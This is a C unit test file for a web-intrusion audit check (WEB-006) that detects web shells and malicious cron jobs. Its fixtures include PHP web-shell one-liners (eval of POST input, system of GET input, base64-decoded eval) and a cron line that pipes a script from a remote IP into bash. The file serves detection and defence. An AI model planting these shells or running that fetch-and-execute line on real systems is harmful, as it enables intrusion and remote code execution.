/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "audit/kernel/web_intrusion.h"
#include "audit/kernel/web_model.h"
#include "tests/checks/literal_host.h"
#include "tests/literal_loader.h"

static void assert_files(const char *path, const char *text, bool is_unreadable,
			 enum finding_status expected)
{
	struct literal_host host;
	struct literal_loader files;
	static const struct web_model web = { .state = FACT_PRESENT, .gui_root = "" };
	static const struct slice roots[] = { { "/var/www/html", 13 } };
	literal_host_init(&host);
	literal_loader_init(&files);
	literal_loader_add(&files, "/var/www/html/index.php", "<?php echo 'hello';\n");
	if (path)
		literal_loader_add(&files, path, text)->is_unreadable = is_unreadable;
	host.model.web = &web;
	host.model.web_intrusion = web_intrusion_load(&files.loader, roots, 1);
	assert_non_null(host.model.web_intrusion);
	enum finding_status status = literal_judge(&host, "WEB-006");
	if (status != expected)
		print_message("%s: %s\n", path ? path : "-", text ? text : "");
	assert_int_equal(status, expected);
	literal_loader_done(&files);
	literal_host_done(&host);
}

static void signs_are_found(void **state)
{
	(void)state;
	assert_files("/var/www/html/x.php", "<?php @eval($_POST['a']);", false, STATUS_FAIL);
	assert_files("/var/www/html/a/b/x.php", "<?php eval(base64_decode('Zm9v'));", false,
		     STATUS_FAIL);
	assert_files("/var/www/html/a/x.php", "<?php system($_GET[c]);", false, STATUS_FAIL);
	assert_files("/var/www/html/.clean.sh", "#!/bin/sh\n", false, STATUS_FAIL);
	assert_files("/var/spool/cron/asterisk",
		     "* * * * * curl -s http://203.0.113.9/k.sh | bash\n", false, STATUS_FAIL);
}

static void what_programs_do_is_no_sign(void **state)
{
	(void)state;
	assert_files(NULL, NULL, false, STATUS_PASS);
	assert_files("/var/www/html/x.php", "<?php $x = base64_decode($y); curl_exec($_c);", false,
		     STATUS_PASS);
	assert_files("/var/www/html/x.php", "<?php // never eval user input", false, STATUS_PASS);
	assert_files("/var/spool/cron/asterisk",
		     "@daily /usr/sbin/fwconsole util cleanplaybackcache -q\n"
		     "# curl http://203.0.113.9/x\n"
		     "*/5 * * * * curl http://127.0.0.1/cron.php\n",
		     false, STATUS_PASS);
}

static void unread_pages_are_unknown_and_no_web_server_does_not_apply(void **state)
{
	(void)state;
	struct literal_host host;
	static const struct web_model none = { .state = FACT_ABSENT, .gui_root = "" };
	static const struct web_model unread = { .state = FACT_UNREADABLE,
						 .unread = &literal_unread };
	assert_files("/var/www/html/x.php", "", true, STATUS_UNKNOWN);
	literal_host_init(&host);
	host.model.web = &none;
	assert_int_equal(literal_judge(&host, "WEB-006"), STATUS_NOT_APPLICABLE);
	host.model.web = &unread;
	assert_int_equal(literal_judge(&host, "WEB-006"), STATUS_UNKNOWN);
	literal_host_done(&host);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(signs_are_found),
		cmocka_unit_test(what_programs_do_is_no_sign),
		cmocka_unit_test(unread_pages_are_unknown_and_no_web_server_does_not_apply),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
